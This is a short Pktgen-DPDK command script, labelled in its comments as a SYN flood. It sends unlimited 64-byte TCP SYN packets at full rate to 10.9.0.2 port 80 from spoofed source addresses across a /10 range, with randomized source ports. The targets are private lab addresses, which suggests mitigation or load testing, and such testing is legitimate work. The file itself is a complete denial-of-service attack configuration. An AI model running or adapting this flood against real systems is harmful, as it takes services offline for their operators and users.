# A SYN flood by Pktgen-DPDK 23.03 or 23.06: -f syn.cmd, or `load syn.cmd` at its prompt.
# From 23.10 on the two flag lines are one: range 0 tcp flags syn
set 0 count 0
set 0 size 64
set 0 rate 100
set 0 proto tcp
range 0 dst mac start 02:00:00:00:09:02
range 0 src mac start 02:00:00:00:09:01
range 0 dst ip 10.9.0.2 10.9.0.2 10.9.0.2 0.0.0.0
range 0 src ip 10.128.0.1 10.128.0.1 10.191.255.254 0.0.0.1
range 0 proto tcp
range 0 dst port 80 80 80 0
range 0 src port 1024 1024 65535 1
range 0 size 64 64 64 0
range 0 tcp flag clr all
range 0 tcp flag set syn
enable 0 range
start 0
